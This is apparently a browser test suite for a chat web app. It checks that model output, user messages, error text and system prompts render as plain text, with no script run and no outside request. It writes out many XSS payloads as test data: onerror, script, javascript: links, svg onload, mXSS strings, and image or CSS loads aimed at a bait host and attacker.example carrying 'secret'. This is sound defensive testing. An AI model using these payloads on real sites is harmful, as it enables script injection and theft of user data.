"""Model output and user text are untrusted: nothing in them runs or fetches, on any path.

A "bait" HTTP server on another loopback port stands for an attacker's site: the payloads
point at it, and it must never be asked for anything. Every page is also watched for dialogs
(the payloads call alert), console errors (CSP violations) and requests leaving the site.
"""

import httpx
import pytest
from playwright.sync_api import expect

from conversations.apikeys import create_key
from tests.browser.pages import (
    assert_nothing_dangerous_in,
    gated_stream,
    last_reply,
    open_new_chat,
    reply_body,
    send_message,
    wait_until_final,
)
from tests.stub import Script, json_error, openai_chunk, openai_stream, openai_usage, sse

pytestmark = pytest.mark.browser

USER_PAYLOAD = "<img src=x onerror=alert('user')> hi"
BROKEN_TEXT = "<img src=x onerror=alert('broken')> **bold**"


def payload_after_the_gate(bait: str) -> str:
    return (
        "or=\"alert('img')\"> and more.\n\n"
        "<script>alert('script')</script>\n\n"
        "[a markdown link](javascript:alert('markdown-link'))\n\n"
        "[a reference link][evil]\n\n[evil]: javascript:alert('reference-link')\n\n"
        '<a id="js-link" href="javascript:alert(\'html-link\')">an html link</a>\n\n'
        '<svg onload="alert(\'svg\')"><circle r="5"/></svg>\n\n'
        f"![the secret]({bait}/markdown-image?q=secret)\n\n"
        f'<img src="{bait}/html-image?q=secret" alt="html image">\n\n'
        f"![remote](https://attacker.example/pixel.png?q=secret)\n\n"
        "![same site](/static/chatsite/favicon.svg)\n\n"
        f'<video src="{bait}/video" poster="{bait}/poster"></video>\n\n'
        f'<iframe src="{bait}/frame"></iframe><object data="{bait}/object"></object>\n\n'
        f'<link rel="stylesheet" href="{bait}/style.css">\n\n'
        f'<style>@import "{bait}/import";</style>\n\n'
        f'<div style="background: url({bait}/background)">styled</div>\n\n'
        "<details open ontoggle=\"alert('toggle')\"><summary>s</summary>x</details>\n\n"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>\n\n"
    )


def test_model_output_runs_no_script_and_requests_nothing(browsing, stub, alice, bait, new_gate):
    mid_tag = new_gate()
    reasoning = openai_chunk(reasoning="<img src=x onerror=alert('reasoning')> thinking")
    stream = gated_stream(["Sure! <img src=x onerr", payload_after_the_gate(bait.url)],
                          [mid_tag, None])  # fmt: skip
    stream.steps.insert(1, reasoning)
    stub.queue(stream)
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, USER_PAYLOAD)

    # Mid-stream, half a tag: shown as text or dropped, never run.
    expect(reply_body(page)).to_contain_text("Sure!")
    assert_nothing_dangerous_in(page)
    mid_tag.open()
    wait_until_final(page)
    assert_nothing_dangerous_in(page)

    body = reply_body(page)
    expect(body).to_contain_text("and more.")
    expect(body).to_contain_text("<script>alert('script')</script>")  # raw HTML is shown as text
    expect(body.get_by_text("[image not loaded: the secret]")).to_be_visible()
    expect(body.get_by_text("[image not loaded: same site]")).to_be_visible()
    expect(body.locator("img")).to_have_count(0)
    for link in ("a markdown link", "a reference link"):
        body.get_by_text(link).click()  # javascript: hrefs were dropped: nothing happens
    expect(last_reply(page).locator(".reasoning")).to_contain_text("<img src=x onerror=")
    expect(page.locator(".message.user .body")).to_have_text(USER_PAYLOAD)
    expect(page.locator("#chat-title")).to_have_text(USER_PAYLOAD)
    page.reload()  # the server-rendered title and sidebar, and the stored reply
    expect(page.locator("#conversation-list li.current")).to_have_text(USER_PAYLOAD)
    expect(page).to_have_title(f"{USER_PAYLOAD} · chatsite")
    wait_until_final(page)
    assert_nothing_dangerous_in(page)

    watch = browsing.watch_of(page)
    assert watch.dialogs == [], "a payload ran script"
    assert watch.outside_requests == [], "the page fetched something outside the site"
    assert bait.paths == [], "the attacker's server was asked for something"


def test_staff_see_model_output_in_admin_as_text(browsing, stub, alice, bob, bait):
    stub.queue(gated_stream([f"<img src=x onerror=alert('admin')><img src={bait.url}/a>"], [None]))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "<script>alert('admin-user')</script>")
    wait_until_final(page)
    conversation_id = page.url.rstrip("/").rsplit("/", 1)[-1]

    staff = browsing.logged_in(bob)
    staff.goto(f"/admin/conversations/conversation/{conversation_id}/change/")
    expect(staff.locator("#content")).to_contain_text("<img src=x onerror=alert('admin')>")
    expect(staff.locator("#content")).to_contain_text("<script>alert('admin-user')</script>")
    staff.goto("/admin/conversations/message/")
    expect(staff.locator("#result_list")).to_be_visible()
    assert browsing.watch_of(staff).dialogs == []
    assert bait.paths == []


def test_provider_error_text_is_shown_as_text(browsing, stub, alice):
    stub.queue(json_error(400, "<img src=x onerror=alert('error')> bad request"))
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Hi")
    reply = wait_until_final(page, "failed")
    expect(reply.locator(".reply-notice")).to_contain_text("<img src=x onerror=alert('error')>")
    assert_nothing_dangerous_in(page)


def test_a_renderer_failure_leaves_plain_text(browsing, stub, alice):
    stub.queue(Script(steps=[openai_chunk("**fine**"), openai_chunk(finish_reason="stop"),
                             openai_usage(1, 1), sse("[DONE]")]))  # fmt: skip
    page = browsing.logged_in(alice)
    open_new_chat(page)
    send_message(page, "Hi")
    wait_until_final(page)
    expect(reply_body(page).locator("strong")).to_have_text("fine")

    # Break the Markdown parser, then the sanitiser: each time the text stays text.
    for broken in ("chatsiteRender.markdown.parse", "DOMPurify.sanitize"):
        rendered = page.evaluate(
            """([broken, text]) => {
                const path = broken.split(".");
                const method = path.pop();
                const owner = path.reduce((object, name) => object[name], window);
                const original = owner[method];
                owner[method] = () => { throw new Error("renderer failed"); };
                const target = document.createElement("div");
                try { window.chatsiteRender.renderMarkdown(target, text); }
                finally { owner[method] = original; }
                return {
                    elements: [...target.querySelectorAll("*")].map(e => e.tagName),
                    text: target.textContent,
                };
            }""",
            [broken, BROKEN_TEXT],
        )
        # A parser failure shows the escaped text in <pre>; a sanitiser failure, plain text.
        expected = ["PRE"] if broken.endswith("markdown.parse") else []
        assert rendered == {"elements": expected, "text": BROKEN_TEXT}, broken


def test_a_system_prompt_from_the_openai_endpoint_shows_as_text(browsing, stub, alice, bait):
    system = f"Be <b>brief</b> <img src={bait.url}/system.gif onerror=alert('system')>"
    _, secret = create_key(alice)
    stub.queue(openai_stream(["Bye **now**"]))
    body = {
        "model": "openai:stub-model",
        "messages": [
            {"role": "system", "content": system},
            {"role": "user", "content": "Hi"},
            {"role": "assistant", "content": "Hello"},
            {"role": "user", "content": "Bye"},
        ],
    }
    answer = httpx.post(
        f"{browsing.origin}/v1/chat/completions",
        json=body,
        headers={"Authorization": f"Bearer {secret}"},
    )
    assert answer.status_code == 200, answer.text
    page = browsing.logged_in(alice)
    page.goto(f"/c/{answer.headers['X-Chatsite-Conversation']}/")
    prompt = page.locator(".system-prompt")
    prompt.locator("summary").click()
    expect(prompt.locator(".from-request")).to_have_text(f"From the API request: {system}")
    assert prompt.locator("img, b").count() == 0
    expect(page.locator(".message.user .body")).to_have_text(["Hi", "Bye"])
    expect(last_reply(page).locator("strong")).to_have_text("now")  # model output: Markdown
    assert bait.paths == []


def test_a_conversation_without_a_system_prompt_shows_none(browsing, stub, alice):
    page = browsing.logged_in(alice)
    open_new_chat(page)
    stub.queue(openai_stream(["Hello"]))
    send_message(page, "Hi")
    wait_until_final(page)
    page.reload()
    expect(reply_body(page)).to_have_text("Hello")
    expect(page.locator(".system-prompt summary")).to_have_text("System prompt")  # not "set"
    assert page.locator(".system-prompt .from-request").count() == 0


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a <code>x<h1/x>Big", "a <code>x<h1/x>Big"),  # no heading made of the text after it
        ("*<script><!*\n\nThe next paragraph", "<script><! The next paragraph"),  # no comment
        ("x <kbd>k <!-- hidden\n\nThe next paragraph", "x <kbd>k <!-- hidden The next paragraph"),
    ],
)
def test_text_after_an_inline_code_or_script_tag_stays_text(browsing, alice, text, shown):
    page = browsing.logged_in(alice)
    open_new_chat(page)
    rendered = page.evaluate(
        """(text) => {
            const target = document.createElement("div");
            window.chatsiteRender.renderMarkdown(target, text);
            return {
                elements: [...target.querySelectorAll("*")].map(e => e.tagName),
                text: target.textContent,
            };
        }""",
        text,
    )
    assert " ".join(rendered["text"].split()) == shown
    assert set(rendered["elements"]) <= {"P", "EM"}, rendered
